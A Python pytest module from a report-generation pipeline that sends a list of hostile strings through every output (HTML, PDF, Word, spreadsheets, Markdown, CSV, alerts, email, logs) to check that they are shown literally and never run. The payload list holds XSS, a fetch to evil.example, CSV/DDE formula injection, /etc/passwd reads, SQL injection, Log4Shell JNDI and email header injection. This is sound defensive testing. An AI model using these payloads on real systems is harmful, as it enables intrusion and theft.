# ruff: noqa: E501 - cases are read a line each
"""Text that means something to a program: it is shown to the letter, and nothing else happens.

What belongs here: one list of hostile texts, sent through everything that shows text. What does
not: files that are wrong (``test_bad_input`` and its neighbours).
"""

import datetime as dt
import email
import email.policy
import html
import io
import re
import socket
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import docx
import openpyxl
import pandas as pd
import pymupdf
import pytest
from aiosmtpd.controller import Controller
from markdown_it import MarkdownIt

from bj_pipeline.assets.metadata import literal, plain_rows, preview
from bj_pipeline.automation import alerts, notify
from bj_pipeline.characters import seen, shown, unseen
from bj_pipeline.commands.printing import print_frame
from bj_pipeline.errors import DataError
from bj_pipeline.issues import by_number
from bj_pipeline.quality.check import Outcome, Rule
from bj_pipeline.quality.data_docs import result, stage_page
from bj_pipeline.quality.raw import closes_are_positive
from bj_pipeline.report import charts, pdf, xlsx
from bj_pipeline.report import docx as word
from bj_pipeline.report import html as web_page
from bj_pipeline.report.document import (
    Bullets,
    Cell,
    Chart,
    Column,
    Document,
    Figure,
    Link,
    Paragraph,
    Section,
    Series,
    Table,
    Words,
    numbered,
)
from bj_pipeline.report.sections.announcements import LISTED, selected
from bj_pipeline.sources import Delivery, layouts
from bj_pipeline.warehouse import tables
from bj_pipeline_tests.report import browser as web
from bj_pipeline_tests.report.example import HOSTILE_NAMES, example_document
from bj_pipeline_tests.site.series import SECTORS, Home, company, write
from bj_pipeline_tests.sources.vendor_files import ISSUE_65, text

HOSTILE = (
    *HOSTILE_NAMES,
    "A&B <script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=fetch('http://evil.example/')>",
    "&lt;b&gt; &amp; &#60;",
    "<!-- ]]> -->",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "#let x = 1; #panic()",
    '#read("/etc/passwd")',
    '#import "x.typ": *',
    "$ sum_(i=1)^n $",
    r"$\frac{1}{2}$",
    "`#raw`, ```x```",
    "= 标题 == 二",
    r"\u{202e} \ ~ \n \x41 %s %d {0}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# 注 #}${7*7}",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/a.png)",
    "| a | b |",
    "**粗** __下__ ~~删~~ ***",
    "<https://evil.example>",
    '{ HYPERLINK "http://evil.example" }',
    '{ INCLUDETEXT "/etc/passwd" }',
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "&P&N&[文件]",
    "'先撇号",
    "_x000D_ _x0041_",
    "../../etc/passwd",
    "'; DROP TABLE facts; --",
    "${jndi:ldap://evil.example/a}",
    "长" * 1000,
    "Ω ≠ ½ ① №",
)
"""To HTML, Typst, Word, spreadsheets, Markdown, Jinja, a shell, a database or a log."""
UNSEEN = ("\u202e倒\u202c", "\u2066隔\u2069", "零\u200b宽", "\ufeff标", "软\u00ad连", "\u200f右")
RARE = ("𠮷野家", "😀", "👨\u200d👩\u200d👧", "\ue000", "\U0010ffff")
URLS = ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:x", "file:///etc/passwd", " javascript:alert(1)", "//evil.example")  # fmt: skip


def _document() -> Document:
    """The example, with a section whose every text is hostile."""
    base = example_document()
    rows = tuple(
        (Cell(line=(Words(text=one, name=True),)), Cell(line=(Words(text=one, strong=True),)))
        for one in HOSTILE
    )
    short = tuple(f"{at} {one[:12]}" for at, one in enumerate(HOSTILE))
    chart = Chart(
        kind="hbars",
        categories=short,
        series=(
            Series(
                name=HOSTILE[0],
                values=tuple(float(at) for at in range(len(short))),
                labels=tuple(map(str, range(len(short)))),
            ),
        ),
        unit="%",
    )
    one, two, three = HOSTILE[9], HOSTILE[18], HOSTILE[28]
    section = Section(
        id=one,
        title=two,
        level=1,
        blocks=(
            *(Paragraph(line=(Words(text=each),), analyst=True) for each in HOSTILE),
            Bullets(items=tuple((Words(text=each),) for each in HOSTILE), labels=HOSTILE),
            Paragraph(line=tuple(Link(text=f"链接{url}", url=url) for url in URLS)),
            Table(
                id=three,
                title=one,
                columns=(Column(label=two, unit=three), Column(label=HOSTILE[4])),
                rows=rows,
                source=HOSTILE[5],
                note=HOSTILE[6],
            ),
            Figure(id=two, title=three, chart=chart, source=one, alt=one, note=two),
        ),
    )
    house = base.house.model_copy(
        update={
            "name": one,
            "series": two,
            "department": three,
            "authors": (HOSTILE[30],),
            "contact": one,
        }
    )
    return base.model_copy(
        update={"house": house, "sections": numbered((*base.sections, section)), "subtitle": one}
    )


@pytest.fixture(scope="module")
def document() -> Document:
    return _document()


@pytest.fixture(scope="module")
def pictures(document) -> dict[str, bytes]:
    return dict(charts.pictures(document))


@pytest.fixture(scope="module")
def page(document, pictures) -> bytes:
    return web_page.render(document, pictures)


def squeezed(words: str) -> str:
    """Without blanks, which pages may break lines at."""
    return "".join(words.split())


# --- the forms of the report -------------------------------------------------------------------


def test_the_web_page_shows_every_text_runs_nothing_and_asks_for_nothing(page, tmp_path):
    file = tmp_path / "report.html"
    file.write_bytes(page)
    with web.chromium() as browser, web.visit(browser, file) as seen_page:
        seen_page.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        body = squeezed(seen_page.page.evaluate("document.body.textContent"))
        lost = [one for one in HOSTILE if squeezed(one) not in body]
        assert not lost
        assert seen_page.requests == []
        assert seen_page.errors == []
        hrefs = seen_page.page.evaluate("[...document.links].map(link => link.protocol)")
        assert set(hrefs) <= {"file:", "https:", "http:"}
        ours = "[...document.querySelectorAll('script, img, iframe, object, embed, base, form')].length"
        assert seen_page.page.evaluate(ours) == page.count(b"<script") - html.escape(
            "<script"
        ).encode().count(b"<script")
        for url in URLS:
            assert seen_page.page.get_by_role("link", name=f"链接{url}", exact=True).count() == 0


def test_the_pdf_prints_every_text_and_leads_nowhere(document, pictures):
    with pymupdf.open(stream=pdf.render(document, pictures)) as printed:
        body = squeezed("".join(sheet.get_text() for sheet in printed))
        links = [link.get("uri", "") for sheet in printed for link in sheet.get_links()]
    plain = squeezed(unicodedata.normalize("NFKC", body))
    lost = [one for one in HOSTILE if squeezed(unicodedata.normalize("NFKC", one)) not in plain]
    # A text of a thousand characters runs over a page's end, with a header between its halves.
    assert [one for one in lost if len(one) < 1000] == []
    assert body.count("长") >= 3000
    assert all(re.match("https?://", uri) for uri in links if uri)
    assert not [uri for uri in links if "evil" in uri]


def test_the_word_file_holds_every_text_and_no_field_or_link_of_theirs(document, pictures):
    content = word.render(document, pictures)
    opened = docx.Document(io.BytesIO(content))
    texts = {"".join(node.itertext()) for node in opened.element.body.iter("{*}t")}
    assert set(HOSTILE) <= texts
    codes = " ".join(node.text or "" for node in opened.element.body.iter("{*}instrText"))
    assert not re.search("HYPERLINK|INCLUDE|DDE|evil", codes)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        relations = archive.read("word/_rels/document.xml.rels").decode()
    assert "evil" not in relations
    assert not re.search("(javascript|vbscript|file|data):", relations, re.IGNORECASE)


def test_the_workbook_holds_every_text_as_text(document):
    frame = pd.DataFrame({"code": ["920493.BJ"] * len(HOSTILE), "name": HOSTILE, "change": 0.5})
    content = xlsx.render(document, {tables.COMPANY_METRICS: frame})
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert not [cell for cell in cells if cell.data_type == "f"]
    # The file says _x005F_ for an underscore that would be read as an escape.
    texts = {str(cell.value).replace("_x005F_", "_") for cell in cells}
    assert [one for one in HOSTILE if one not in texts] == []
    outside = [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target]
    assert outside == []


def test_a_chart_draws_names_as_text(document):
    figure = next(one for one in document.figures() if len(one.chart.categories) == len(HOSTILE))
    drawing = charts.svg(figure, document.house, "full").decode()
    assert "<script" not in drawing
    assert "&lt;script" in drawing


@pytest.mark.parametrize("name", RARE[1:])
def test_a_character_that_the_font_lacks_is_refused_by_name_and_not_printed_as_a_box(
    name, document, pictures
):
    house = document.house.model_copy(update={"name": name})
    missing = next(one for one in name if unicodedata.category(one) != "Cf")
    with pytest.raises(DataError, match=rf"U\+{ord(missing):04X}"):
        pdf.render(document.model_copy(update={"house": house}), pictures)


@pytest.mark.parametrize("junk", ["\x00", "\x0b", "\x1b[31m", "\ud800", "\ufffe"])
def test_what_xml_cannot_hold_is_replaced_in_office_files_and_the_rest_is_kept(junk, document):
    frame = pd.DataFrame({"code": ["920493.BJ"], "name": [f"甲{junk}乙"], "change": [0.5]})
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx.render(document, {tables.COMPANY_METRICS: frame}))
    )
    texts = {str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row}
    assert f"甲\ufffd{junk[1:]}乙" in texts


# --- announcements from a vendor ---------------------------------------------------------------


def _announced(titles: list[str]) -> pd.DataFrame:
    header = ["代码", "名称", "公告标题", "公告类型", "公告日期", "网址"]
    rows = [
        ["920493", "某公司", f"{at:02d}{title}", "=1+1", "2026-02-27", URLS[at % len(URLS)]]
        for at, title in enumerate(titles)
    ]
    delivery = Delivery("", "stock_notice_report_20260227.csv", text([header, *rows]))
    return layouts.read([delivery], tables.RAW_ANNOUNCEMENTS, ISSUE_65).frame


def _picked(titles: list[str]) -> list[str]:
    companies = pd.DataFrame({"code": ["920493.BJ"], "name": ["并行科技"]})
    found = selected(_announced(titles), None, companies, are_known=True)
    return [title[2:] for title in found.rows["title"]]


@pytest.mark.parametrize("start", range(0, len(HOSTILE), LISTED))
def test_titles_of_a_vendor_are_kept_to_the_letter(start):
    titles = list(HOSTILE[start : start + LISTED])
    assert _picked(titles) == titles


def test_titles_lose_what_cannot_be_seen_and_show_what_cannot_be_printed():
    assert _picked(list(UNSEEN)) == ["倒", "隔", "零宽", "标", "软连", "右"]
    assert _picked(["多\n行", "分\u2028隔"]) == ["多 行", "分 隔"]
    assert _picked(["涨😀了"]) == ["涨〓了"]


# --- pages beside the report -------------------------------------------------------------------


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Home:
    home = Home(tmp_path_factory.mktemp("site"))
    rows = [
        company(f"92{at:04d}.BJ", name=one, sector=SECTORS[at % 2], segment="AIPC")
        for at, one in enumerate(HOSTILE)
    ]
    for number in (64, 65):
        write(home.warehouse, number, rows)
    home.build()
    return home


def test_the_site_shows_every_name_runs_nothing_and_asks_for_nothing_outside(site):
    pages = ("index.html", "companies.html", "ai-chain.html", "company/920010.html")
    with web.chromium() as browser:
        for path in pages:
            with web.visit(browser, site.site / path) as seen_page:
                seen_page.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
                body = squeezed(seen_page.page.evaluate("document.body.textContent"))
                assert seen_page.errors == []
                inside = site.site.as_uri()
                assert not [url for url in seen_page.requests if not url.startswith(inside)]
                if path == "companies.html":
                    assert [one for one in HOSTILE if squeezed(one) not in body] == []


@pytest.mark.parametrize("hostile", [*HOSTILE, *UNSEEN])
def test_a_page_of_check_results_escapes_what_it_quotes(hostile):
    rows = pd.DataFrame({"name": [hostile], "close": [1.0]})
    rule = Rule(
        "expect_column_values_to_be_in_set",
        {"column": "name", "value_set": [hostile]},
        held=False,
        observed=hostile,
        count=1,
        rows=rows,
    )
    check = replace(closes_are_positive, question=hostile, remedy=hostile)
    outcome = Outcome(check, 1, (hostile,), rows, ("name",), "suite", (rule,))
    written = stage_page(by_number(65), "raw", [result(outcome)]).decode()
    assert "<script>alert" not in written
    assert "<img src=x" not in written
    assert html.escape(hostile.replace("\u2028", " "), quote=False)[:20] in html.escape(
        html.unescape(written), quote=False
    )


def _markdown_shows(source: str) -> str:
    """The text that a Markdown reader with links, tables and images shows; fails on markup."""
    tokens = MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(source)
    kinds = {child.type for token in tokens for child in token.children or ()}
    assert kinds <= {"text", "text_special"}, kinds
    assert {token.type for token in tokens} <= {
        "bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close",
        "paragraph_open", "paragraph_close", "inline",
    }  # fmt: skip
    return "".join(child.content for token in tokens for child in token.children or ())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_markdown_of_the_user_interface_shows_text_as_text(hostile):
    given = f"name {hostile} is wrong"
    assert _markdown_shows(f"- {literal(given)}") == " ".join(given.split())


@pytest.mark.parametrize("hostile", [*HOSTILE, *UNSEEN, "\x00", "\n"])
def test_previews_of_the_user_interface_hold_the_text_itself(hostile):
    frame = pd.DataFrame({"name": [hostile], "day": [dt.date(2026, 2, 27)]})
    assert plain_rows(frame)[0]["name"] == hostile
    assert preview(frame).records[0].data["name"] == hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_exported_csv_gives_a_spreadsheet_nothing_to_compute(hostile, capsys):
    frame = pd.DataFrame(
        {"code": ["920493.BJ"], "name": [hostile], "change": [-0.5], "bucket": ["-2~0"]}
    )
    print_frame(frame, "csv", limit=None)
    read = pd.read_csv(io.StringIO(capsys.readouterr().out))
    name = str(read["name"][0])
    assert name[0] not in "=+-@"
    # Nothing but the documented apostrophe is added.
    assert name in {hostile, f"'{hostile}"}
    assert read["change"][0] == -0.5
    assert read["bucket"][0] == "-2~0"


# --- alerts and log lines ----------------------------------------------------------------------


@pytest.mark.parametrize("hostile", [*HOSTILE, *UNSEEN, "a\nb", "a\r\nBcc: x@evil.example"])
def test_an_alert_is_plain_text_in_every_channel(hostile):
    failed = alerts.FailedStep("raw_quotes", "DataError", hostile)
    alert = alerts.trouble(
        alerts.Trouble(
            by_number(65), "issue", "http://ui.example/runs/1", succeeded=False, step=failed
        )
    )
    (reason,) = [line for line in alert.lines if line.startswith("原因")]
    assert "\n" not in reason
    assert unseen(reason) is None
    assert not set("<>*`[]|@") & set(reason)
    assert "http://evil" not in reason
    if hostile in HOSTILE:
        told = unicodedata.normalize("NFKC", reason)
        assert squeezed(unicodedata.normalize("NFKC", hostile))[:40] in squeezed(told)


@pytest.fixture
def mailbox() -> Iterator[tuple[list[email.message.EmailMessage], int]]:
    mails: list[email.message.EmailMessage] = []

    class Handler:
        async def handle_DATA(self, _server, _session, envelope):  # noqa: N802 - aiosmtpd's name
            mails.append(email.message_from_bytes(envelope.content, policy=email.policy.default))
            return "250 OK"

    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    server = Controller(Handler(), hostname="127.0.0.1", port=port)
    server.start()
    yield mails, port
    server.stop()


def test_a_line_end_in_a_title_adds_no_header_to_a_mail(mailbox):
    mails, port = mailbox
    title = "第 65 期\r\nBcc: x@evil.example\nX-Planted: 1"
    target = notify.Target(
        "1 mailto", f"mailto://127.0.0.1:{port}/?from=a@b.example&to=c@d.example"
    )
    assert notify.send(target, alerts.Alert(title, ("正文",))) == ""
    (mail,) = mails
    assert mail["Bcc"] is None
    assert mail["X-Planted"] is None
    assert "第 65 期" in mail["Subject"]


@pytest.mark.parametrize("hostile", [*HOSTILE, *UNSEEN, "\x1b[2J", "a\nERROR: 伪造", "\ud800"])
def test_a_message_of_an_error_is_one_line_that_can_be_written_anywhere(hostile):
    line = str(DataError(f"{hostile}.csv", "the rule", "The remedy.", 3, hostile))
    assert line.isprintable()
    assert len(line) < 2000
    line.encode()
    assert "line 3: the rule" in line


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_can_be_seen_is_never_changed(hostile):
    assert seen(hostile) == hostile
    assert unseen(hostile) is None
    assert shown(hostile)[:500] == hostile[:500]
